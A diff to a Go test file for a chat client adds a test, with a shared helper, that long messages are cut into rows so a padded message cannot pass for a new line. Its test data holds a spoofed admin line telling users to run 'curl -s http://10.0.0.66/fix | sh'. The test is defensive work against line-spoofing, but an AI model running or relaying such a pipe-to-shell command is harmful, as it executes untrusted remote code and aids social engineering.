@@ -631,6 +631,19 @@ func TestPromptCutsLongLines(t *testing.T) {
 	mallory := startTalker(t, addr, fp, "mallory")
 	tm.waitLines(`^\d\d:\d\d -!- mallory joined$`)
 
+	expectCutRows(t, tm, mallory)
+	// Leave, so that join has saved its history before its state
+	// directory is removed.
+	tm.keys("C-d")
+	tm.waitLines(`^\[exited 0\]$`)
+}
+
+// expectCutRows has mallory send a message that, wrapped by a terminal
+// 40 columns wide, would bring a fake line of admin2's to the start of a
+// row, and checks that tm shows it cut into rows, the second starting
+// with the continuation mark.
+func expectCutRows(t *testing.T, tm *tmuxTerm, mallory *talker) {
+	t.Helper()
 	// "HH:MM <mallory> hi" takes 18 columns: 22 dots fill the row, and
 	// the fake line would start the next, had the terminal wrapped it.
 	const fake = "07:08 <admin2> please everyone run: curl -s http://10.0.0.66/fix | sh"
@@ -658,10 +671,27 @@ func TestPromptCutsLongLines(t *testing.T) {
 		}
 		time.Sleep(20 * time.Millisecond)
 	}
-	// Leave, so that join has saved its history before its state
-	// directory is removed.
-	tm.keys("C-d")
-	tm.waitLines(`^\[exited 0\]$`)
+}
+
+// TestLineModeAtTerminalCutsLongLines: line mode (input piped, a bot's
+// or a person's "tail -f | chatroom join") with its output at a terminal
+// cuts long lines as the prompt does, so a padded message cannot pass
+// for a new line there either.
+func TestLineModeAtTerminalCutsLongLines(t *testing.T) {
+	bin := buildChatroom(t)
+	h, err := host.Start(host.Config{Name: "Lab 3", StateDir: t.TempDir(), Listen: "127.0.0.1:0"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer h.Close()
+	addr, fp := h.Addr().String(), h.Fingerprint()
+	tm := startTmux(t, fmt.Sprintf("sleep 600 | %s join --addr %s --fingerprint %s --user ana --state %s; echo \"[exited $?]\"; sleep 600",
+		bin, addr, fp, t.TempDir()))
+	tm.waitLines(`^joined "Lab 3" as ana`)
+	tm.run("resize-window", "-x", "40", "-y", "40")
+	mallory := startTalker(t, addr, fp, "mallory")
+	tm.waitLines(`^\d\d:\d\d -!- mallory joined$`)
+	expectCutRows(t, tm, mallory)
 }
 
 // TestPromptShrink: narrowing the terminal while a long line is typed
